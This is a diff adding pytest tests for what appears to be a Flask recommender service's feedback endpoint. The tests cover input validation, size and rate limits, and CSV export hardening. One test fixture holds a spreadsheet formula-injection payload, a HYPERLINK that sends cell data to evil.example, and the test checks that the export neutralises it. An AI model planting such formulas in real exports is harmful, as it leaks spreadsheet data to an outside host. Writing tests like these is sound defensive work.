@@ -17,9 +17,10 @@ from flask import Flask
 from flask.testing import FlaskClient
 
 from db_fixtures import ENGINES, PostgresServer
-from recommender import feedback
+from recommender import artifacts, feedback
 from recommender.cli import cli
 from recommender.config import Settings
+from recommender.service.config import DEFAULTS
 from service_fixtures import AppFactory, build_app
 
 GOOD = {"body": "Rother", "partner": "Wealden District Council", "service": "legal",
@@ -79,9 +80,18 @@ def test_round_trip_post_then_export(new_app: AppFactory, tmp_path: Path) -> Non
     assert json.loads(out.read_text())["feedback"] == [stored]
 
 
-def test_model_version_given_is_kept(client: FlaskClient) -> None:
-    response = client.post("/api/v1/feedback", json=GOOD | {"model_version": "older"})
-    assert response.status_code == 201 and response.json["model_version"] == "older"
+def test_model_version_given_is_kept(client: FlaskClient, app: Flask) -> None:
+    older = artifacts.versions(app.extensions["recommender"].settings)[-1]  # saved, not serving
+    assert older != app.extensions["recommender"].models.version
+    response = client.post("/api/v1/feedback", json=GOOD | {"model_version": older})
+    assert response.status_code == 201 and response.json["model_version"] == older
+
+
+def test_an_unknown_model_version_is_refused(client: FlaskClient, app: Flask) -> None:
+    serving = app.extensions["recommender"].models.version
+    response = client.post("/api/v1/feedback", json=GOOD | {"model_version": serving + "9"})
+    assert response.status_code == 400 and response.json["field"] == "model_version"
+    assert serving in response.json["suggestions"]
 
 
 @pytest.mark.parametrize(
@@ -96,6 +106,14 @@ def test_model_version_given_is_kept(client: FlaskClient) -> None:
         ({"comment": "x" * 2001}, 400, "comment"),
         ({"comment": 5}, 400, "comment"),
         ({"colour": "blue"}, 400, "colour"),
+        ({"model_version": "v" * 10_000}, 400, "model_version"),
+        ({"model_version": "older"}, 400, "model_version"),
+        ({"body": "Rother" * 100}, 400, "body"),
+        ({"partner": "x" * 201}, 400, "partner"),
+        ({"service": "legal" + " " * 100}, 400, "service"),
+        ({"comment": "a\x00b"}, 400, "comment"),
+        ({"comment": "a\ud800b"}, 400, "comment"),
+        ({"partner": "Wealden\x1b"}, 400, "partner"),
     ],
 )
 def test_bad_feedback_is_refused_and_not_stored(
@@ -136,3 +154,69 @@ def test_export_of_nothing_has_a_header(new_app: AppFactory) -> None:
     assert feedback.export(engine, "csv").splitlines() == [",".join(feedback.COLUMNS)]
     assert json.loads(feedback.export(engine, "json")) == {"feedback": []}
     assert feedback.training_signals(engine).empty
+
+
+@pytest.mark.parametrize(
+    "body",
+    [
+        '{"body": "Rother", "comment": "\\ud800", "partner": "Wealden", "service": "legal", '
+        '"verdict": "interested"}',
+        '{"body": "Rother", "partner": "Wealden", "service": "legal", "verdict": "interested", '
+        '"model_version": "\\udfff"}',
+        '{"\\ud800": 1}',
+        '{"body": "Rother", "extra": [[["\\u0000"]]]}',
+        "[" * 5_000 + "]" * 5_000,  # deeper than the parser goes, within FEEDBACK_MAX_BYTES
+        '{"body": ' + "[" * 5_000 + "]" * 5_000 + "}",
+    ],
+)
+def test_unstorable_or_deeply_nested_json_is_a_400(client: FlaskClient, body: str) -> None:
+    response = client.post("/api/v1/feedback", data=body, content_type="application/json")
+    assert response.status_code == 400, response.get_data(as_text=True)[:300]
+    assert response.json["error"] == "invalid_input"
+
+
+def test_a_large_feedback_body_is_a_413_in_the_json_shape(client: FlaskClient) -> None:
+    padding = "x" * DEFAULTS["FEEDBACK_MAX_BYTES"]
+    response = client.post("/api/v1/feedback", json=GOOD | {"comment": padding})
+    assert response.status_code == 413
+    assert response.json["status"] == 413 and response.json["error"] == "request_entity_too_large"
+    form = {"partner": "Wealden", "service": "legal", "verdict": "interested", "comment": padding}
+    page = client.post("/bodies/E07000064/feedback", data=form)
+    assert page.status_code == 413 and "too much to send" in page.get_data(as_text=True)
+
+
+def test_feedback_is_rate_limited_per_client(make_app: AppFactory) -> None:
+    app = make_app(FEEDBACK_PER_MINUTE=DEFAULTS["FEEDBACK_PER_MINUTE"])
+    limit = app.extensions["recommender"].feedback_limit
+    now = [1000.0]
+    limit.clock = lambda: now[0]  # a frozen clock: no timing in the test
+    client = app.test_client()
+    post = client.post
+    burst = int(DEFAULTS["FEEDBACK_BURST"])
+    for _ in range(burst):
+        assert post("/api/v1/feedback", json=GOOD).status_code == 201
+    refused = post("/api/v1/feedback", json=GOOD)
+    assert refused.status_code == 429
+    assert refused.json["error"] == "rate_limited" and set(refused.json) >= {"detail", "field"}
+    assert refused.headers["Retry-After"] == "6"  # 10 a minute: one every 6 s
+    form = {"partner": "Wealden", "service": "legal", "verdict": "interested"}
+    assert post("/bodies/E07000064/feedback", data=form).status_code == 429  # the same bucket
+    other = post("/api/v1/feedback", json=GOOD, environ_base={"REMOTE_ADDR": "192.0.2.7"})
+    assert other.status_code == 201  # another client has its own bucket
+    now[0] += 6
+    assert post("/api/v1/feedback", json=GOOD).status_code == 201
+    assert post("/api/v1/feedback", json=GOOD).status_code == 429
+    stored = len(feedback.load(app.extensions["recommender"].engine))
+    assert stored == burst + 2
+
+
+def test_the_csv_export_neutralises_formulas(make_app: AppFactory) -> None:
+    app = make_app()
+    comment = '=HYPERLINK("http://evil.example/?"&A1,"see")'
+    response = app.test_client().post("/api/v1/feedback", json=GOOD | {"comment": comment})
+    assert response.status_code == 201
+    rows = list(csv.DictReader(io.StringIO(feedback.export(app.extensions["recommender"].engine))))
+    assert rows[0]["comment"] == "'" + comment
+    assert rows[0]["id"] == "1" and rows[0]["body_code"] == "E07000064"
+    engine = app.extensions["recommender"].engine
+    assert json.loads(feedback.export(engine, "json"))["feedback"][0]["comment"] == comment
